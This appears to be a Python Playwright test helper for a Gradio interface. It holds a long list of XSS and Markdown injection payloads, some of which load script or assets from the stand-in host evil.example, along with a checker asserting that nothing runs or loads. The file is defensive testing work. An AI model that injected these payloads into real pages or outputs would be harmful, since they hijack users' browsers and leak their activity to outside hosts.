"""What attackers write where text is expected: markup, Markdown and encodings that run or load something elsewhere."""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from playwright.sync_api import Page

_RUN = "window.__xss=true"
_AWAY = "http://evil.example"

# No figures: a model's sentence with a figure that no source has would not be shown at all.
PAYLOADS = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script src={_AWAY}/x.js></script>",
    f'"><script>{_RUN}</script>',
    f"'><img src=x onerror={_RUN}>",
    f'<img src=x onerror="{_RUN}">',
    f"<img src=x:x onerror={_RUN}//",
    f"<img/src='x'/onerror={_RUN}>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=s>",
    f"<svg><a xlink:href=javascript:{_RUN}><text>x</text></a></svg>",
    f"<math><mtext></table><mglyph><style><img src=x onerror={_RUN}></style>",
    f"<iframe src=javascript:{_RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data=javascript:{_RUN}></object>",
    f"<embed src={_AWAY}/x.swf>",
    f"<body onload={_RUN}>",
    f"<details open ontoggle={_RUN}>",
    f"<video><source onerror={_RUN}></video>",
    f"<audio src=x onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<textarea autofocus onfocus={_RUN}></textarea>",
    f"<select autofocus onfocus={_RUN}></select>",
    f"<marquee onstart={_RUN}>",
    f"<a href=javascript:{_RUN}>点这里</a>",
    f"<form action=javascript:{_RUN}><button>提交</button></form>",
    f"<button form=x formaction=javascript:{_RUN}>提交</button>",
    f"<meta http-equiv=refresh content=';url={_AWAY}'>",
    f"<base href={_AWAY}/>",
    f"<link rel=stylesheet href={_AWAY}/x.css>",
    f"<style>@import '{_AWAY}/x.css';</style>",
    f'<div style="background:url({_AWAY}/x.png);position:fixed;inset:auto">盖住</div>',
    f"<table background={_AWAY}/x.png><td>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    "</mark></blockquote></article></section></div></main></body></html>",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[><img src=x onerror={_RUN}>]]>",
    f"&lt;img src=x onerror={_RUN}&gt;",
    f"\\u003cimg src=x onerror={_RUN}\\u003e",
    f"＜img src=x onerror={_RUN}＞",
    f"![图]({_AWAY}/pixel.png)",
    f'![图](x"onerror="{_RUN})',
    f"[点这里](javascript:{_RUN})",
    f"[点这里](data:text/html,<script>{_RUN}</script>)",
    f"[点][坏]\n[坏]: javascript:{_RUN}",
    f"<javascript:{_RUN}>",
    f"**<img src=x onerror={_RUN}>**",
    f"`<img src=x onerror={_RUN}>`",
    f"```html\n<img src=x onerror={_RUN}>\n```",
    f"$$\\href{{javascript:{_RUN}}}{{x}}$$",
    f"${{{_RUN}}}{{{{{_RUN}}}}}<%={_RUN}%>",
    f"'-{_RUN}-'",
    f"</textarea><img src=x onerror={_RUN}>",
    f"</script><img src=x onerror={_RUN}>",
    f"\u202e<img src=x onerror={_RUN}>\u202c",
)

# Everything that could run or load, wherever it came from: what Gradio itself makes has none of it.
_FOUND = """() => {
    const own = location.origin, found = [];
    if (window.__xss !== undefined) found.push("executed");
    for (const element of document.querySelectorAll("body *")) {
        for (const { name, value } of element.attributes) {
            if (/^on/i.test(name)) found.push(`${element.localName} ${name}=${value}`);
            if (!/^(?:src|href|action|formaction|data|poster|background|srcset|xlink:href)$/i.test(name)) continue;
            let address;
            try { address = new URL(value, document.baseURI); } catch { continue; }
            const harmless = address.origin === own || address.protocol === "blob:"
                || (element.localName === "img" && /^data:image/.test(value));
            if (!harmless) found.push(`${element.localName} ${name}=${value}`);
        }
        if (/^(?:iframe|object|embed|base|meta|marquee|audio|video|math)$/.test(element.localName))
            found.push(element.localName);
        if (/evil\\.example/.test(element.getAttribute("style") ?? "")) found.push("style");
    }
    if (document.baseURI.startsWith("http://evil")) found.push("base");
    if (document.documentElement.scrollWidth > innerWidth) found.push("wider than the window");
    return found;
}"""


def assert_harmless(tab: Page) -> None:
    """Nothing ran, nothing could run, nothing leads elsewhere, and the page is no wider than its window."""
    tab.wait_for_timeout(50)  # what an image or a frame would run comes a moment after it
    found = tab.evaluate(_FOUND)
    assert not found, found


def groups(size: int) -> list[str]:
    """The payloads, so many in one text."""
    return ["，".join(PAYLOADS[start : start + size]) for start in range(0, len(PAYLOADS), size)]
